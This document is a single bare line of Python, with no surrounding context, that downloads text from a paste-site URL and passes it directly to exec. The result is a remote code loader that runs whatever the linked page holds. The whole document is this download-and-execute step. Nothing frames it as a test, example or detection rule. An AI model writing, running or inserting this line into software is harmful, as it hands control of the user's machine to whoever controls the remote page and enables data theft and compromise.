exec(__import__('requests').get('https://rentry.co/abc/raw').text)
